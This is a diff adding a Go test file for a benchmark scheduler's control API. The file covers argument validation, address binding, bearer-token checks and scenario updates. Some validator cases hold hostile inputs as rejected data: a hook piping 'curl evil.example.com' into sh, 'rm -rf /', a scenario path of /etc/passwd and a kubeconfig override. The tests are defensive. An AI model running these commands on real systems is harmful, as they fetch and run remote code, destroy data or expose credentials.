@@ -0,0 +1,142 @@
+package main
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestValidateRemoteArgs(t *testing.T) {
+	tests := []struct {
+		name    string
+		args    []string
+		wantErr bool
+	}{
+		{name: "benchmark-shaping flags", args: []string{"--iterations=50", "--operations=tag:list", "--qps=20", "-burst=40"}},
+		{name: "boolean flag", args: []string{"--cluster-wide-lists"}},
+		{name: "none", args: nil},
+		{name: "kubeconfig", args: []string{"--kubeconfig=/tmp/other"}, wantErr: true},
+		{name: "kubectl path", args: []string{"--kubectl-path=/bin/sh"}, wantErr: true},
+		{name: "results webhook", args: []string{"--iterations=5", "--results-webhook=https://example.com"}, wantErr: true},
+		{name: "scenario file", args: []string{"--scenario=/etc/passwd"}, wantErr: true},
+		{name: "pre-run hook", args: []string{"--pre-run-hook=curl evil.example.com | sh"}, wantErr: true},
+		{name: "post-operation hook", args: []string{"--iterations=5", "-post-operation-hook", "rm -rf /"}, wantErr: true},
+		{name: "value as next argument", args: []string{"--iterations", "5"}, wantErr: true},
+		{name: "positional argument", args: []string{"merge"}, wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := validateRemoteArgs(tt.args); (err != nil) != tt.wantErr {
+				t.Errorf("validateRemoteArgs(%q) error = %v, want error %v", tt.args, err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestControlAPIAddr(t *testing.T) {
+	tests := []struct {
+		addr    string
+		token   string
+		want    string
+		wantErr bool
+	}{
+		{addr: ":8080", want: "127.0.0.1:8080"},
+		{addr: "127.0.0.1:8080", want: "127.0.0.1:8080"},
+		{addr: "[::1]:8080", want: "[::1]:8080"},
+		{addr: "localhost:8080", want: "localhost:8080"},
+		{addr: "0.0.0.0:8080", wantErr: true},
+		{addr: "10.0.0.1:8080", wantErr: true},
+		{addr: "8080", wantErr: true},
+		{addr: ":8080", token: "secret", want: ":8080"},
+		{addr: "0.0.0.0:8080", token: "secret", want: "0.0.0.0:8080"},
+	}
+	for _, tt := range tests {
+		got, err := controlAPIAddr(tt.addr, tt.token)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("controlAPIAddr(%q, %q) error = %v, want error %v", tt.addr, tt.token, err, tt.wantErr)
+			continue
+		}
+		if got != tt.want {
+			t.Errorf("controlAPIAddr(%q, %q) = %q, want %q", tt.addr, tt.token, got, tt.want)
+		}
+	}
+}
+
+func TestControlAPIToken(t *testing.T) {
+	s := &scheduler{token: "secret", args: []string{"--iterations=5"}}
+	handler := s.controlHandler()
+
+	tests := []struct {
+		name          string
+		authorization string
+		want          int
+	}{
+		{name: "valid token", authorization: "Bearer secret", want: http.StatusOK},
+		{name: "missing token", want: http.StatusUnauthorized},
+		{name: "wrong token", authorization: "Bearer other", want: http.StatusUnauthorized},
+		{name: "wrong scheme", authorization: "Basic secret", want: http.StatusUnauthorized},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(http.MethodGet, "/scenario", nil)
+			if tt.authorization != "" {
+				req.Header.Set("Authorization", tt.authorization)
+			}
+			recorder := httptest.NewRecorder()
+			handler.ServeHTTP(recorder, req)
+			if recorder.Code != tt.want {
+				t.Errorf("GET /scenario with %q = %d, want %d", tt.authorization, recorder.Code, tt.want)
+			}
+		})
+	}
+}
+
+func TestControlAPIScenarioUpdate(t *testing.T) {
+	s := &scheduler{summaryPath: "/tmp/summary.json", args: []string{"--kubeconfig=/etc/bench/kubeconfig", "--iterations=5", "--stream-output=run.jsonl"}}
+	handler := s.controlHandler()
+
+	tests := []struct {
+		name string
+		body string
+		want int
+		args []string
+	}{
+		{
+			name: "overrides keep the command line",
+			body: `{"args": ["--iterations=50", "--qps=10"]}`,
+			want: http.StatusOK,
+			args: []string{"--kubeconfig=/etc/bench/kubeconfig", "--stream-output=run.jsonl", "--iterations=50", "--qps=10"},
+		},
+		{
+			name: "later overrides replace earlier ones",
+			body: `{"args": ["--burst=20"]}`,
+			want: http.StatusOK,
+			args: []string{"--kubeconfig=/etc/bench/kubeconfig", "--iterations=5", "--stream-output=run.jsonl", "--burst=20"},
+		},
+		// Rejected scenarios keep the active arguments
+		{
+			name: "credentials",
+			body: `{"args": ["--kubeconfig=/tmp/other"]}`,
+			want: http.StatusBadRequest,
+			args: []string{"--kubeconfig=/etc/bench/kubeconfig", "--iterations=5", "--stream-output=run.jsonl", "--burst=20"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			recorder := httptest.NewRecorder()
+			handler.ServeHTTP(recorder, httptest.NewRequest(http.MethodPut, "/scenario", strings.NewReader(tt.body)))
+			if recorder.Code != tt.want {
+				t.Errorf("PUT /scenario %s = %d, want %d", tt.body, recorder.Code, tt.want)
+			}
+			s.mu.Lock()
+			got := s.runArgs()
+			s.mu.Unlock()
+			want := append(tt.args, "--summary-output=/tmp/summary.json", "--reload-credentials")
+			if !slices.Equal(got, want) {
+				t.Errorf("run arguments after PUT /scenario %s = %q, want %q", tt.body, got, want)
+			}
+		})
+	}
+}